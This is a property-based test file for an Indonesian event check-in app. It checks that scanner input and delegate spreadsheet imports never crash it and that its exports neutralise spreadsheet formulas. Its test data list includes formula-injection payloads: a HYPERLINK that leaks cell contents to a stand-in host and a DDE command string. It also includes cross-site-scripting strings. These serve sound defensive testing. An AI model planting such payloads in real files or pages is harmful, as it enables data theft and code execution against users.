"""Hostile input, property-tested: scanner text and spreadsheets never crash the app.

Any text a scanner reads is a secret or None. Any file is either a valid import that stores
each cell's text verbatim (minus control characters) or ImportInvalid with its problems,
and a refused file changes nothing. Values that are formulas, markup, quotes or very long
are stored as text and exported without becoming formulas.
"""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from checkin import reports
from checkin.errors import ImportInvalid
from checkin.importing import cell_text, import_delegates
from checkin.invitations import (
    export_invitations_csv,
    export_invitations_excel,
    new_secret,
    parse_code,
)
from checkin.models import AuditLog, Delegate
from checkin.reports import FORMULA_STARTS
from checkin.sending import region_links_text

#: Modest and reproducible: the same examples on every run and in CI.
HOSTILE = settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

SECRET_RE = re.compile(r"[A-Za-z0-9_-]{8,64}")
PHONE_RE = re.compile(r"\+62\d{6,15}")
HEADER = ["No", "Nama", "Jabatan", "Ormas", "Tingkat", "Kabupaten/Kota", "No. HP", "Email"]
GOOD_ROW = ["Siti Rahmah", "Sekretaris", "Muslimat NU", "Kabupaten/Kota", "Kukar", "", ""]
#: The text fields a clerk types freely (the others are checked against lists).
FREE_FIELDS = {"Nama": 1, "Jabatan": 2, "Ormas": 3}
HOSTILE_VALUES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik di sini")',
    "=1+1",
    "+62812-cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    'O\'Brien "Si Kancil" `backtick`',
    "Nama\x00dengan\x07kontrol\x1bkarakter\u202eterbalik",
    "A" * 10_000,
]


def _delegate_count(db, event) -> int:
    return db.scalar(select(func.count(Delegate.id)).where(Delegate.event_id == event.id))


def _audit_count(db) -> int:
    return db.scalar(select(func.count(AuditLog.id)))


def _csv(rows: list[list], delimiter: str = ";", encoding: str = "utf-8-sig") -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode(encoding, errors="replace")


def _xlsx(rows: list[list]) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _import_or_refuse(db, event, data: bytes, filename: str) -> bool:
    """Import; True if imported. A refusal must be ImportInvalid and change nothing."""
    before = (_delegate_count(db, event), _audit_count(db))
    try:
        import_delegates(db, event, data, filename)
    except ImportInvalid as exc:
        assert exc.message and exc.details, "a refusal says what is wrong"
        for detail in exc.details:
            assert isinstance(detail, str | tuple)
        db.rollback()
        assert (_delegate_count(db, event), _audit_count(db)) == before
        return False
    return True


# --- scanner text --------------------------------------------------------------------------

_url_like = st.builds(
    lambda scheme, host, path, secret, tail: f"{scheme}{host}{path}/i/{secret}{tail}",
    st.sampled_from(["https://", "http://", "", "javascript:", "HTTPS://", "ftp://"]),
    st.text(max_size=30),
    st.sampled_from(["", "/checkin", "/i", "/../.."]),
    st.one_of(st.just(new_secret()), st.text(max_size=70)),
    st.text(max_size=20),
)


@HOSTILE
@given(
    st.one_of(
        st.text(),
        st.text(alphabet=st.characters(codec="utf-8"), min_size=2000, max_size=3000),
        _url_like,
        st.binary(),
        st.none(),
        st.integers(),
        st.floats(),
        st.lists(st.text(), max_size=3),
        st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=3),
    )
)
def test_parse_code_any_input_gives_secret_or_none(value):
    secret = parse_code(value)
    assert secret is None or (SECRET_RE.fullmatch(secret) and secret in value)


@HOSTILE
@given(
    st.sampled_from(["", "  ", "\x1b", "\x00", "\ufeff", "\n"]),
    st.sampled_from(["https://checkin.example.id/i/", "checkin.example.id/i/", ""]),
    st.sampled_from(["", "/", "?utm=wa", "\r\n", "\x00", "/../x", "#frag"]),
)
def test_parse_code_framed_secret_is_found_or_refused_whole(prefix, base, suffix):
    secret = new_secret()
    found = parse_code(prefix + base + secret + suffix)
    assert found in (secret, None)


# --- spreadsheets ----------------------------------------------------------------------------


@HOSTILE
@given(data=st.binary(max_size=4096), name=st.sampled_from(["a.csv", "a.xlsx", "a.txt", "a"]))
def test_import_random_bytes_refused_or_imported_never_crashes(db, event, data, name):
    if _import_or_refuse(db, event, data, name):
        db.rollback()


@HOSTILE
@given(
    data=st.binary(max_size=2048),
)
def test_import_random_bytes_inside_zip_never_crashes(db, event, data):
    out = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", data)
        archive.writestr("xl/workbook.xml", data)
        archive.writestr("xl/worksheets/sheet1.xml", b"<f>" + data)
    if _import_or_refuse(db, event, out.getvalue(), "daftar.xlsx"):
        db.rollback()


_cell = st.one_of(
    st.text(max_size=40),
    st.sampled_from(HOSTILE_VALUES),
    st.sampled_from(["Kukar", "Prov. Kaltim", "Kota Bpp", "Provinsi", "0812-3456-7890", ""]),
)


@HOSTILE
@given(
    rows=st.lists(st.lists(_cell, min_size=0, max_size=9), max_size=8),
    delimiter=st.sampled_from([";", ",", "\t", "|", ":"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]),
    with_header=st.booleans(),
)
def test_import_random_csv_refused_or_stored_clean(
    db, event, rows, delimiter, encoding, with_header
):
    table = ([HEADER] if with_header else []) + rows
    data = _csv(table, delimiter=delimiter, encoding=encoding)
    if not _import_or_refuse(db, event, data, "peserta.csv"):
        return
    for delegate in db.scalars(select(Delegate).where(Delegate.event_id == event.id)):
        for text in (delegate.name, delegate.ormas, delegate.position or ""):
            assert text == cell_text(text)  # no control characters, whitespace folded
            assert len(text) <= 300
    db.rollback()


@HOSTILE
@given(
    field=st.sampled_from(sorted(FREE_FIELDS)),
    value=st.one_of(st.sampled_from(HOSTILE_VALUES), st.text(min_size=1, max_size=300)),
    fmt=st.sampled_from(["csv", "xlsx"]),
)
def test_import_hostile_text_in_free_field_is_stored_verbatim_or_refused(
    db, event, field, value, fmt
):
    row = [1, *GOOD_ROW]
    row[FREE_FIELDS[field]] = value
    if fmt == "xlsx":
        # openpyxl drops the characters XLSX cannot hold, as Excel would never write them.
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        row[FREE_FIELDS[field]] = ILLEGAL_CHARACTERS_RE.sub("", value)
    data = _csv([HEADER, row]) if fmt == "csv" else _xlsx([HEADER, row])
    written = row[FREE_FIELDS[field]]
    imported = _import_or_refuse(db, event, data, f"peserta.{fmt}")
    expected = cell_text(written)
    limit = 300 if field == "Ormas" else 200
    if len(expected) > limit or (not expected and field != "Jabatan"):
        assert not imported, "too long or empty required text is refused"
        return
    assert imported
    stored = db.scalar(select(Delegate).where(Delegate.event_id == event.id))
    attribute = {"Nama": "name", "Jabatan": "position", "Ormas": "ormas"}[field]
    assert (getattr(stored, attribute) or "") == expected
    db.rollback()


@pytest.mark.parametrize("column", [4, 5, 6, 7], ids=["tingkat", "wilayah", "hp", "email"])
@pytest.mark.parametrize("value", HOSTILE_VALUES, ids=range(len(HOSTILE_VALUES)))
def test_import_hostile_text_in_checked_field_is_refused_with_row_and_column(
    db, event, column, value
):
    row = [1, *GOOD_ROW]
    row[column] = value
    with pytest.raises(ImportInvalid) as caught:
        import_delegates(db, event, _csv([HEADER, row]), "peserta.csv")
    db.rollback()
    assert _delegate_count(db, event) == 0
    problems = " ".join(map(str, caught.value.details))
    assert "2" in problems and HEADER[column] in problems
    assert len(problems) < 2000, "one hostile cell cannot flood the problem list"


def test_import_xlsx_formula_cell_stored_as_its_text(db, event):
    row = [1, *GOOD_ROW]
    row[1] = '=HYPERLINK("http://evil.example","Klik")'  # openpyxl writes this as a formula
    import_delegates(db, event, _xlsx([HEADER, row]), "peserta.xlsx")
    db.commit()
    stored = db.scalar(select(Delegate).where(Delegate.event_id == event.id))
    assert stored.name == '=HYPERLINK("http://evil.example","Klik")'


# --- exports -------------------------------------------------------------------------------

FORMULAS = [v for v in HOSTILE_VALUES if v.startswith(FORMULA_STARTS)]


@pytest.fixture
def hostile_delegates(db, event, make_delegate, make_user):
    """Delegates whose name, ormas and position are formulas, markup and quotes."""
    made = []
    for n, value in enumerate(HOSTILE_VALUES[:8]):
        made.append(
            make_delegate(name=value[:200], ormas=f"{value[:280]} {n}", position=value[:200])
        )
    return made


def _csv_cells(text: str, delimiter: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def _assert_no_formula(cells: list[str]) -> None:
    # A normalised phone (+62 and digits) is a number to a spreadsheet, not a formula.
    bad = [c for c in cells if c.startswith(FORMULA_STARTS) and not PHONE_RE.fullmatch(c)]
    assert not bad, f"cells a spreadsheet would run as formulas: {bad[:3]}"


def test_attendance_csv_export_neutralises_formulas(db, event, hostile_delegates):
    export = reports.export_attendance(db, event, "csv")
    text = export.content.decode("utf-8-sig")
    cells = _csv_cells(text, reports.CSV_SEPARATOR)
    _assert_no_formula(cells)
    assert "'" + FORMULAS[0] in cells  # kept readable, as text
    assert "<script>alert(1)</script>" in cells


def test_attendance_xlsx_export_stores_formulas_as_text(db, event, hostile_delegates):
    export = reports.export_attendance(db, event, "xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(export.content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert FORMULAS[0] in values
    assert "<script>alert(1)</script>" in values


def test_invitations_csv_export_neutralises_formulas(db, event, hostile_delegates):
    text = export_invitations_csv(db, event, "https://checkin.example.id", actor="cli")
    cells = _csv_cells(text, ",")
    _assert_no_formula(cells)
    assert "<script>alert(1)</script>" in cells


def test_invitations_excel_export_neutralises_formulas(db, event, hostile_delegates):
    content = export_invitations_excel(db, event, "https://checkin.example.id", actor="cli")
    cells = _csv_cells(content.decode("utf-8-sig"), ";")
    _assert_no_formula(cells)
    assert "<script>alert(1)</script>" in cells


def test_region_links_csv_neutralises_formulas(db, event, hostile_delegates):
    text, count = region_links_text(db, event, event.regions[1], "https://checkin.example.id")
    assert count == len(hostile_delegates)
    _assert_no_formula(_csv_cells(text.lstrip("\ufeff"), ";"))
